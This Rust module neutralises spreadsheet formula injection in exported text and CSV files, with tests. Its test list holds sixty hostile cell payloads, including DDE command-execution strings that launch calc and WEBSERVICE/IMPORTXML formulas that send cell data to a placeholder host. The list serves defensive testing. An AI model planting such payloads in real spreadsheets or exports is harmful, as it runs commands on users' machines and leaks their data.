//! Text that stays text when a spreadsheet opens it, and the writer of CSV files that uses it.
//!
//! A resident's text that begins with `=` would run as a formula on the desk of whoever exports it.
//! Workbooks and CSV files pass every text through [`neutral`]; numbers are written as numbers.

use std::borrow::Cow;

/// The text, with an apostrophe before it when a spreadsheet could take it for a formula: when it
/// begins with `= + - @` in any width, with a TAB or a line break, or with any of the four behind
/// blanks and signs that cannot be seen.
pub fn neutral(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

fn is_formula(text: &str) -> bool {
    let begins_with_break = text.starts_with(['\t', '\r', '\n']);
    begins_with_break || text.trim_start_matches(is_unseen).starts_with(is_trigger)
}

fn is_trigger(sign: char) -> bool {
    matches!(
        sign,
        '=' | '+' | '-' | '@' // as typed
        | '＝' | '＋' | '－' | '＠' // full width
        | '﹦' | '﹢' | '﹣' | '﹫' // small forms
        | '−' // the minus of mathematics
    )
}

fn is_unseen(sign: char) -> bool {
    sign.is_whitespace()
        || sign.is_control()
        || matches!(sign, '\u{00AD}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}')
        || matches!(sign, '\u{2060}'..='\u{2069}' | '\u{FEFF}')
}

/// A CSV file that Excel and WPS open as it is: UTF-8 with its mark, lines ended by CR LF, every
/// text neutralised.
#[derive(Debug)]
pub struct Csv {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for Csv {
    fn default() -> Csv {
        Csv::new()
    }
}

impl Csv {
    /// An empty file.
    pub fn new() -> Csv {
        let writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .flexible(true)
            .from_writer("\u{FEFF}".as_bytes().to_vec());
        Csv { writer }
    }

    /// Adds a row. A cell that is a plain number, such as -3, 0.5 or -12.5%, stays a number.
    pub fn row<I>(&mut self, cells: I) -> crate::error::Result<()>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        for cell in cells {
            let text = cell.as_ref();
            let cell = if is_negative_number(text) { Cow::Borrowed(text) } else { neutral(text) };
            self.writer.write_field(cell.as_bytes()).map_err(crate::error::Error::internal)?;
        }
        self.writer.write_record(None::<&[u8]>).map_err(crate::error::Error::internal)
    }

    /// The bytes of the file.
    pub fn finish(self) -> crate::error::Result<Vec<u8>> {
        self.writer.into_inner().map_err(|err| crate::error::Error::internal(anyhow::anyhow!("{err}")))
    }
}

fn is_negative_number(text: &str) -> bool {
    let Some(digits) = text.strip_prefix('-') else { return false };
    let digits = digits.strip_suffix('%').unwrap_or(digits);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, fraction].iter().all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAYLOADS: [&str; 60] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x\",\"点我\")",
        "=WEBSERVICE(\"http://x\")",
        "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"1\")",
        "=",
        "==1",
        "=A1",
        "=\"x\"&A1",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+86 138 0000 0000",
        "+",
        "+A1",
        "-1+1",
        "-2+3+cmd|' /C calc'!E2",
        "-",
        "--",
        "-A1",
        "@SUM(1+1)",
        "@",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "@A1",
        "＝1+1",
        "＝cmd|' /C calc'!A0",
        "＋1+1",
        "＋",
        "－1+1",
        "－A1",
        "＠SUM(1)",
        "＠",
        "﹦1+1",
        "﹢1",
        "﹣1",
        "﹫SUM(1)",
        "−1+1",
        "\t=1+1",
        "\tplain",
        "\r=1+1",
        "\rplain",
        "\n=1+1",
        "\nplain",
        "\r\n=1+1",
        " =1+1",
        "   +1",
        "\u{3000}=1+1",
        "\u{00A0}=1+1",
        "\u{FEFF}=1+1",
        "\u{200B}=1+1",
        "\u{200E}@x",
        "\u{202E}=1+1",
        "\u{2060}-1",
        "\u{00AD}=1",
        "\0=1+1",
        "\u{0B}=1+1",
        "\u{0C}=1+1",
        "\u{85}=1+1",
        " \t -1+1",
        "\u{2028}=1",
    ];

    #[test]
    fn sixty_ways_to_smuggle_in_a_formula_come_out_as_text() {
        for payload in PAYLOADS {
            assert_eq!(neutral(payload), format!("'{payload}"), "{payload:?}");
            assert_eq!(neutral(&neutral(payload)), format!("'{payload}"), "once is enough");
        }
    }

    #[test]
    fn what_people_write_is_left_alone() {
        for text in
            ["", "楼道灯坏了", "3号楼-2单元", "a=b", "1+1", "138-0000", "'=1", "（-）", "12345", " 空格"]
        {
            assert!(matches!(neutral(text), Cow::Borrowed(kept) if kept == text));
        }
    }

    #[test]
    fn a_csv_file_opens_with_its_mark_and_no_cell_runs() {
        let mut csv = Csv::new();
        csv.row(["编号", "内容", "增减"]).unwrap();
        csv.row(["TG1", "=1+1,\"x\"", "-3.5"]).unwrap();
        csv.row(["-1+1", "-", "-.5"]).unwrap();
        csv.row(["-12.5%", "-%", "-5%%"]).unwrap();
        let text = String::from_utf8(csv.finish().unwrap()).unwrap();
        let wanted =
            "\u{FEFF}编号,内容,增减\r\nTG1,\"'=1+1,\"\"x\"\"\",-3.5\r\n'-1+1,'-,'-.5\r\n-12.5%,'-%,'-5%%\r\n";
        assert_eq!(text, wanted);
    }

    #[test]
    fn no_payload_survives_the_way_through_a_file() {
        let mut csv = Csv::new();
        PAYLOADS.iter().for_each(|payload| csv.row(["1", payload]).unwrap());
        let bytes = csv.finish().unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
        let cells: Vec<String> = reader.records().map(|record| record.unwrap()[1].to_owned()).collect();
        assert_eq!(cells.len(), PAYLOADS.len());
        assert!(cells.iter().all(|cell| cell.starts_with('\'')));
    }
}
